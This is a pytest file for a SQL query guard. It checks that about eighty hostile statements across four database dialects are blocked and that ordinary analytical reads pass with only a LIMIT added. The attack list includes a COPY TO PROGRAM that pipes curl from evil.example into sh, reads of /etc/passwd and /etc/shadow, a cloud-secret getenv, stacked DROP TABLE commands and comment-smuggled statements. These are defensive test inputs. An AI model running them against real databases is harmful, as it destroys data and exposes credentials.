"""SQL through the guard (sqlglot): a security set across postgres, sqlite, duckdb and mysql
that must all be blocked, ordinary analytical reads that must run with at most a LIMIT, and
the LIMIT checked by executing both texts on SQLite: it never changes a result."""

from __future__ import annotations

import random
import sqlite3
from functools import cache

import pytest

from query_guard.build import build_guard
from query_guard.config.load import parse_config
from query_guard.guard.pipeline import Guard

ATTACKS: list[tuple[str, str]] = [
    # writes and DDL as statements
    ("postgres", "INSERT INTO customers (name) VALUES ('x')"),
    ("postgres", "UPDATE customers SET name = 'x'"),
    ("postgres", "DELETE FROM orders"),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    ("postgres", "CREATE TABLE x AS SELECT * FROM customers"),
    ("postgres", "DROP TABLE customers"),
    ("postgres", "ALTER TABLE customers ADD COLUMN x int"),
    ("postgres", "TRUNCATE orders"),
    ("postgres", "GRANT ALL ON customers TO public"),
    ("postgres", "REVOKE SELECT ON customers FROM app"),
    ("postgres", "SET search_path = evil"),
    ("postgres", "CALL do_something()"),
    ("postgres", "DO $$ BEGIN PERFORM pg_sleep(10); END $$"),
    ("postgres", "EXECUTE stmt"),
    ("postgres", "PREPARE p AS DELETE FROM orders"),
    ("postgres", "VACUUM FULL"),
    ("postgres", "LISTEN channel"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders"),
    ("sqlite", "PRAGMA writable_schema = 1"),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x"),
    ("sqlite", "REPLACE INTO customers (id, name) VALUES (1, 'x')"),
    ("sqlite", "INSERT OR REPLACE INTO customers VALUES (1, 'x', 'y')"),
    ("duckdb", "ATTACH 'x.db' AS x"),
    ("duckdb", "INSTALL httpfs"),
    ("duckdb", "LOAD httpfs"),
    ("duckdb", "COPY (SELECT * FROM customers) TO '/tmp/out.csv'"),
    ("duckdb", "EXPORT DATABASE '/tmp/dump'"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
    ("mysql", "INSERT INTO t SELECT * FROM customers"),
    ("mysql", "RENAME TABLE customers TO c2"),
    # COPY
    ("postgres", "COPY customers TO PROGRAM 'curl evil.example | sh'"),
    ("postgres", "COPY customers FROM '/etc/passwd'"),
    ("postgres", "COPY (SELECT 1) TO '/tmp/x'"),
    # writes hidden in queries
    ("postgres", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone"),
    ("postgres", "WITH up AS (UPDATE customers SET name = 'x' RETURNING id) SELECT * FROM up"),
    ("postgres", "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i"),
    ("postgres", "SELECT * INTO backup FROM customers"),
    ("postgres", "SELECT * FROM customers FOR UPDATE"),
    ("postgres", "SELECT * FROM customers FOR SHARE"),
    ("postgres", "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o"),
    # file, network, process, sleeping, settings
    ("postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')"),
    ("postgres", "SELECT * FROM pg_ls_dir('/')"),
    ("postgres", "SELECT lo_import('/etc/passwd')"),
    ("postgres", "SELECT lo_export(1, '/tmp/x')"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)"),
    ("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')"),
    ("postgres", "SELECT pg_sleep(30)"),
    ("postgres", "SELECT set_config('log_statement', 'none', false)"),
    ("postgres", "SELECT current_setting('data_directory')"),
    ("postgres", "SELECT pg_terminate_backend(1234)"),
    ("postgres", "SELECT nextval('orders_id_seq')"),
    ("postgres", "SELECT name FROM customers WHERE id = (SELECT 1 FROM pg_sleep(5))"),
    ("postgres", "SELECT query_to_xml('select * from pg_shadow', true, true, '')"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
    ("sqlite", "SELECT readfile('/etc/passwd')"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
    ("duckdb", "SELECT * FROM read_csv_auto('https://evil.example/x.csv')"),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"),
    ("duckdb", "SELECT * FROM read_json_auto('/etc/x.json')"),
    ("duckdb", "SELECT * FROM 'data.csv'"),
    ("duckdb", "SELECT * FROM '/etc/passwd'"),
    ("duckdb", "SELECT getenv('AWS_SECRET_ACCESS_KEY')"),
    ("duckdb", "SELECT * FROM glob('/home/*')"),
    ("duckdb", "SELECT * FROM query('DELETE FROM orders')"),
    ("duckdb", "SELECT * FROM postgres_scan('host=evil', 'public', 't')"),
    ("mysql", "SELECT load_file('/etc/passwd')"),
    ("mysql", "SELECT sleep(10)"),
    ("mysql", "SELECT benchmark(100000000, md5('x'))"),
    ("mysql", "SELECT * FROM customers INTO OUTFILE '/tmp/x'"),
    # stacked statements, comments and quoting
    ("postgres", "SELECT 1; DROP TABLE customers"),
    ("postgres", "SELECT name FROM customers; DELETE FROM orders"),
    ("postgres", "SELECT 1 /* ; */ ; DELETE FROM orders"),
    ("postgres", "SELECT 1 -- harmless\n; UPDATE customers SET name = 'x'"),
    ("sqlite", "SELECT 1; ATTACH DATABASE '/tmp/x' AS x"),
    ("mysql", "SELECT 1; DROP TABLE customers"),
    ("mysql", "SELECT 1 /*!50000 ; DROP TABLE customers */"),
    ("postgres", "SELECT $$; DROP TABLE x; $$ ; DELETE FROM orders"),
    ("postgres", "SELECT 'it''s'; DELETE FROM orders"),
    ("postgres", "SELECT \"pg_read_file\"('/etc/passwd')"),
    ("postgres", "SELECT PG_READ_FILE('/etc/passwd')"),
]
READS = [
    "SELECT name FROM customers",
    "SELECT name, city FROM customers WHERE city = 'Berlin' ORDER BY name",
    "SELECT count(*) FROM customers",
    "SELECT city, count(*) AS n FROM customers GROUP BY city ORDER BY n DESC, city",
    "SELECT city, count(*) FROM customers GROUP BY city HAVING count(*) > 2 ORDER BY city",
    "SELECT avg(price) FROM products",
    "SELECT max(price), min(price) FROM products",
    "SELECT category, avg(price) FROM products GROUP BY category ORDER BY category",
    "SELECT c.name, count(o.id) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id "
    "GROUP BY c.name ORDER BY c.name",
    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY o.id",
    "SELECT p.name, sum(i.quantity) AS q FROM order_items i JOIN products p ON p.id = "
    "i.product_id GROUP BY p.name ORDER BY q DESC, p.name",
    "SELECT name FROM customers ORDER BY name LIMIT 5",
    "SELECT name FROM customers ORDER BY name LIMIT 5 OFFSET 5",
    "SELECT name FROM customers WHERE name LIKE 'A%' ORDER BY name",
    "SELECT DISTINCT city FROM customers ORDER BY city",
    "SELECT count(DISTINCT city) FROM customers",
    "SELECT name FROM customers UNION SELECT name FROM products ORDER BY name",
    "SELECT city FROM customers UNION ALL SELECT category FROM products ORDER BY 1",
    "SELECT name FROM customers INTERSECT SELECT name FROM customers WHERE city = 'Paris'",
    "SELECT name FROM customers EXCEPT SELECT name FROM customers WHERE city = 'Paris' "
    "ORDER BY name",
    "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT count(*) FROM big",
    "WITH per AS (SELECT customer_id, sum(total) AS s FROM orders GROUP BY customer_id) "
    "SELECT c.name, per.s FROM per JOIN customers c ON c.id = per.customer_id ORDER BY per.s "
    "DESC, c.name",
    "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 10) "
    "SELECT sum(x) FROM n",
    "SELECT name, price, rank() OVER (ORDER BY price DESC) AS r FROM products ORDER BY r, name",
    "SELECT category, name, row_number() OVER (PARTITION BY category ORDER BY price DESC, name) "
    "AS rn FROM products ORDER BY category, rn",
    "SELECT id, total, sum(total) OVER (ORDER BY id) AS running FROM orders ORDER BY id",
    "SELECT customer_id, avg(total) OVER (PARTITION BY customer_id) FROM orders ORDER BY id",
    "SELECT name FROM products WHERE price > (SELECT avg(price) FROM products) ORDER BY name",
    "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = "
    "c.id AND o.total > 300) ORDER BY name",
    "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders) ORDER BY name",
    "SELECT name FROM customers WHERE id NOT IN (SELECT customer_id FROM orders) ORDER BY name",
    "SELECT (SELECT count(*) FROM orders) AS n_orders, (SELECT count(*) FROM customers) AS n_c",
    "SELECT CASE WHEN price > 50 THEN 'high' ELSE 'low' END AS band, count(*) FROM products "
    "GROUP BY band ORDER BY band",
    "SELECT upper(name), length(name) FROM customers ORDER BY name",
    "SELECT coalesce(city, 'unknown') FROM customers ORDER BY 1",
    "SELECT substr(name, 1, 3) AS p FROM customers ORDER BY p",
    "SELECT name || ' (' || city || ')' FROM customers ORDER BY 1",
    "SELECT round(avg(total), 2) FROM orders",
    "SELECT customer_id, max(total) FROM orders GROUP BY customer_id ORDER BY customer_id",
    "SELECT strftime('%Y', ordered_at) AS y, count(*) FROM orders GROUP BY y ORDER BY y",
    "SELECT * FROM products ORDER BY price DESC, name",
    "SELECT p.* FROM products p WHERE p.category = 'tools' ORDER BY p.id",
    "SELECT total FROM orders WHERE total BETWEEN 50 AND 150 ORDER BY total, id",
    "SELECT name FROM customers WHERE city IS NULL ORDER BY name",
    "SELECT count(*) FILTER (WHERE total > 100) FROM orders",
    "SELECT o.id FROM orders o WHERE o.total = (SELECT max(total) FROM orders)",
    "SELECT a.name, b.name FROM customers a JOIN customers b ON a.city = b.city AND a.id < b.id "
    "ORDER BY a.name, b.name",
    "SELECT category, group_concat(name) FROM (SELECT category, name FROM products ORDER BY "
    "name) GROUP BY category ORDER BY category",
    "SELECT x.c, x.n FROM (SELECT city AS c, count(*) AS n FROM customers GROUP BY city) x "
    "ORDER BY x.n DESC, x.c",
    "SELECT sum(i.quantity * p.price) FROM order_items i JOIN products p ON p.id = i.product_id",
    "SELECT c.city, sum(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id "
    "GROUP BY c.city ORDER BY 2 DESC, 1",
    "SELECT name FROM customers WHERE lower(name) = 'alice 1'",
    "SELECT name FROM products WHERE name LIKE '%drill%' ORDER BY name",
    "SELECT count(*) AS n FROM orders WHERE ordered_at >= '2024-01-01'",
    "SELECT id, total FROM orders ORDER BY total DESC, id LIMIT 3",
    "SELECT DISTINCT p.category FROM order_items i JOIN products p ON p.id = i.product_id "
    "ORDER BY 1",
    "SELECT name FROM customers -- the names\nORDER BY name",
    "SELECT name /* all */ FROM customers ORDER BY name",
    "SELECT 'a; b' AS s",
    "SELECT name FROM customers WHERE name <> 'x; DROP TABLE y' ORDER BY name",
    "SELECT avg(price) AS a, category FROM products GROUP BY category ORDER BY category",
]


@cache
def guard(dialect: str) -> Guard:
    return build_guard(parse_config({"guard": {"sql_dialect": dialect}}), entry_points=False)


@pytest.mark.parametrize(("dialect", "text"), ATTACKS, ids=[f"{d}-{i}" for i, (d, _) in
                                                            enumerate(ATTACKS)])  # fmt: skip
def test_attacks_are_blocked(dialect: str, text: str) -> None:
    verdict = guard(dialect).check(text, "sql")
    assert verdict.blocked, (text, verdict.codes)
    assert {c.split(".")[0] for c in verdict.codes if c != "LIM.INJECTED"} <= {"SEC", "SYN"}


def test_the_sets_are_big_enough() -> None:
    assert len(ATTACKS) >= 60 and len(READS) >= 60
    assert {d for d, _ in ATTACKS} == {"postgres", "sqlite", "duckdb", "mysql"}


@pytest.fixture(scope="module")
def shop() -> sqlite3.Connection:
    rng = random.Random(3)
    db = sqlite3.connect(":memory:")
    db.executescript(
        "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, city TEXT);"
        "CREATE TABLE products (id INTEGER PRIMARY KEY, name TEXT, category TEXT, price REAL);"
        "CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INT, total REAL, "
        "ordered_at TEXT);"
        "CREATE TABLE order_items (order_id INT, product_id INT, quantity INT);"
    )
    cities = ["Berlin", "Paris", "Lisbon", "Oslo", None]
    db.executemany("INSERT INTO customers VALUES (?, ?, ?)",
                   [(i, f"{rng.choice('ABCDE')}lice {i}", rng.choice(cities))
                    for i in range(1, 41)])  # fmt: skip
    db.executemany("INSERT INTO products VALUES (?, ?, ?, ?)",
                   [(i, f"{rng.choice(['drill', 'saw', 'glue', 'tape'])} {i}",
                     rng.choice(["tools", "supplies"]), round(rng.uniform(2, 120), 2))
                    for i in range(1, 31)])  # fmt: skip
    db.executemany("INSERT INTO orders VALUES (?, ?, ?, ?)",
                   [(i, rng.randrange(1, 36), round(rng.uniform(5, 400), 2),
                     f"202{rng.randrange(2, 5)}-0{rng.randrange(1, 9)}-1{rng.randrange(0, 9)}")
                    for i in range(1, 121)])  # fmt: skip
    db.executemany("INSERT INTO order_items VALUES (?, ?, ?)",
                   [(rng.randrange(1, 121), rng.randrange(1, 31), rng.randrange(1, 6))
                    for _ in range(300)])  # fmt: skip
    return db


@pytest.mark.parametrize("text", READS, ids=[f"read-{i}" for i in range(len(READS))])
def test_reads_run_with_at_most_a_limit_and_the_same_result(
    shop: sqlite3.Connection, text: str
) -> None:
    verdict = guard("sqlite").check(text, "sql")
    assert not verdict.blocked, verdict.codes
    assert set(verdict.codes) <= {"LIM.INJECTED"}, verdict.codes
    assert shop.execute(verdict.query).fetchall() == shop.execute(text).fetchall()


def test_limit_forms_per_dialect() -> None:
    text = "SELECT name FROM customers ORDER BY name"
    assert guard("postgres").check(text, "sql").query == text + " LIMIT 1000"
    top = "SELECT TOP 1000 name FROM customers ORDER BY name"
    assert guard("tsql").check(text, "sql").query == top
    union = "SELECT a FROM t UNION SELECT b FROM u"
    assert guard("postgres").check(union, "sql").query == union + " LIMIT 1000"
    capped = guard("postgres").check("SELECT a FROM t LIMIT 50000", "sql")
    assert capped.query == "SELECT a FROM t LIMIT 10000" and capped.codes == ["LIM.CAPPED"]
    assert guard("postgres").check("SELECT count(*) FROM t", "sql").codes == []


def test_syntax_errors_say_where() -> None:
    verdict = guard("postgres").check("SELEC name FROM customers", "sql")
    assert verdict.blocked and verdict.codes == ["SYN.PARSE"]
    assert "line 1" in verdict.findings[0].message
